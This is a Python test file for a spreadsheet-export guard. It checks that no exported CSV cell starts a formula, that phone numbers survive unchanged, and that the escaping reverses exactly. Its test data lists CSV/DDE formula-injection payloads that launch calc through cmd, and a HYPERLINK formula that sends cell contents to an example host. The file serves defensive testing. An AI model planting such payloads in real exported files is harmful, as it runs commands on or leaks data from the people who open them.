"""No cell that we write is a formula, in whatever program it is opened; nothing is lost by it."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from migdesk.formats.tables.dialects import DIALECTS, octets
from migdesk.formats.tables.guard import guarded, unguarded

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://e.example?"&A1,"click")',
    "x;=HYPERLINK(1)",
    "x\t=1",
    "x\n=1",
    "x, @SUM(1)",
    "x;+cmd|'/C calc'!A0",
    "x\n-HYPERLINK(1)",
]
PHONES = [
    "+33 6 12 34 56 78",
    "+41227179468",
    "+41 (0)22 717-94-68",
    "+33.4.66.00.00.01",
    "+41 22 717 94 68 ext. 12",
    "+41 22/7179468 poste 12",
]
START = re.compile("\\s*[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]")
SEPARATORS = ",;\t"


@pytest.mark.parametrize("text", PHONES)
def test_a_phone_number_stays_right(text):
    assert guarded(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_starts_a_cell(text):
    assert guarded(text) != text
    assert not START.match(guarded(text))
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_formula_starts_a_cell_of_a_program_that_cuts_elsewhere(text, separator):
    """Excel cuts at the sign that its country uses, and knows no quotation marks inside a cell."""
    dialect = DIALECTS["google"]
    data = octets(["a", "b"], [["name", text.replace("\r", "")]], dialect, mark=False)
    table = io.StringIO(data.decode(), newline="")
    cells = [cell for row in csv.reader(table, delimiter=separator) for cell in row]
    loose = [cell for line in data.decode().split("\n") for cell in line.split(separator)]
    for cell in (*cells, *loose):
        assert not re.match(r"\s*(=|@|[+\-][A-Za-z_.]+[(|])", cell), cell


@pytest.mark.parametrize("text", ["'tis", "L'=", "- un\n- deux", "a-b", "x@y.example", "1;2", ""])
def test_other_texts_keep_their_apostrophes(text):
    assert unguarded(guarded(text)) == text
    assert unguarded(text) == text


@given(st.text(st.sampled_from("'=+-@\t\n ;,a(|\uff1d"), max_size=12))
def test_the_way_back_is_exact(text):
    assert unguarded(guarded(text)) == text


@given(st.text(st.sampled_from("'=+-@\t\n ;,a(|\uff1d"), max_size=12))
def test_what_is_guarded_starts_no_formula(text):
    assert not START.match(guarded(text))
